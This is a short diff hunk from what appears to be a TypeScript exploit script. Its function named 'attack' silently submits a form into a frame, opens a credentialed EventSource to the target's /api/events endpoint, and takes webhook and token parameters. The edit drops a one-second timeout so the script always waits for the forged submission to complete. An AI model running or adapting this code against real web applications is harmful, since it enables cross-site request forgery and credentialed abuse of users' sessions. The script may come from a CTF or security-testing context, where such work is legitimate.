@@ -78,7 +78,7 @@ async function attack({ webhookUrl, windowUrl, token, hook }: Attack): Promise<s
     document.body.append(form)
     const sent = new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }))
     form.submit()
-    await Promise.race([sent, new Promise((resolve) => setTimeout(resolve, 1000))])
+    await sent
   }
   await new Promise<void>((resolve) => {
     const stream = new EventSource(`${windowUrl}/api/events`, { withCredentials: true })
